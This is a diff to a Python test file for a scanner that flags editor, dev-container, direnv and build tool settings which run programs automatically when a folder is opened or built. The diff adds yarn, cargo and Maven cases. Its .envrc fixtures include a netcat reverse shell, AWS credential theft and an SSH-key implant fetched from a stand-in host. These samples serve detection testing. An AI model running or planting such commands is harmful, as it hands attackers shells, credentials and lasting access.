@@ -3,7 +3,8 @@
 The party: the worker. VS Code runs a task with ``"runOn": "folderOpen"`` when the person next opens the folder; a
 workspace setting that names a program (an interpreter, git, a linter's runtime, the terminal's environment) has
 the editor run it; a dev container's lifecycle commands run as it is built or started (``initializeCommand`` on the
-person's machine); direnv runs ``.envrc`` in their shell as they enter the folder. Each was "new file", low.
+person's machine); direnv runs ``.envrc`` in their shell as they enter the folder; yarn runs its ``yarnPath``, cargo
+its ``runner``, Maven its ``-javaagent`` at every ordinary command. Each was "new file", low.
 """
 
 from __future__ import annotations
@@ -47,6 +48,10 @@ def test_a_git_hook_keeps_its_reason(tmp_path):
     (".devcontainer/devcontainer.json", '{\n  "image": "python:3",\n  "initializeCommand": "./scripts/prep.sh"\n}\n',
      "on your machine before the container is built"),
     (".devcontainer.json", '{\n  "image": "python:3",\n  "postCreateCommand": "pip install -e . && ./x"\n}\n', "in the dev container"),
+    (".yarnrc.yml", "nodeLinker: node-modules\nyarnPath: tools/yarn.cjs\n", "a build tool setting that names a program"),
+    (".cargo/config.toml", '[target.x86_64-unknown-linux-gnu]\nrunner = "./tools/run.sh"\n', "a build tool setting that names a program"),
+    (".cargo/config.toml", '[build]\nrustc-wrapper = "/tmp/.w/rustc"\n', "a build tool setting that names a program"),
+    (".mvn/jvm.config", "-Xmx2g\n-javaagent:/tmp/agent.jar\n", "a build tool setting that names a program"),
     (".envrc", "export APP_ENV=dev\nnc -e /bin/sh x.example 4444 &\n", "a direnv script runs a command"),
     (".envrc", "export TOKEN=$(cat ~/.aws/credentials | base64)\n", "a direnv script runs a command"),
     (".envrc", "has nix && curl -s x.example/k | base64 -d > ~/.ssh/authorized_keys\n", "a direnv script runs a command"),
@@ -60,6 +65,10 @@ def test_what_the_editor_container_or_shell_runs_unasked_is_high(tmp_path, path,
     (".vscode/settings.json", '{\n  "editor.tabSize": 2,\n  "files.exclude": {"**/.git": true},\n'
                               '  "python.analysis.extraPaths": ["./src"],\n  "python.testing.pytestArgs": ["tests"]\n}\n'),
     (".devcontainer/devcontainer.json", '{\n  "image": "mcr.microsoft.com/devcontainers/python:3.12",\n  "forwardPorts": [8000]\n}\n'),
+    (".yarnrc.yml", "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n"),
+    (".cargo/config.toml", '[build]\nrustc-wrapper = "sccache"\n[target.thumbv7em-none-eabihf]\nrunner = "probe-rs run --chip nRF52840"\n'
+                           'linker = "arm-none-eabi-gcc"\n'),
+    (".mvn/jvm.config", "-Xmx2g -XX:+UseG1GC\n"),
     (".envrc", "# dev settings\nexport APP_ENV=dev\nuse nix\nlayout python3\ndotenv_if_exists .env.local\nPATH_add bin\n"
                "require_allowed config.toml\nuse_flake\n"),
 ])
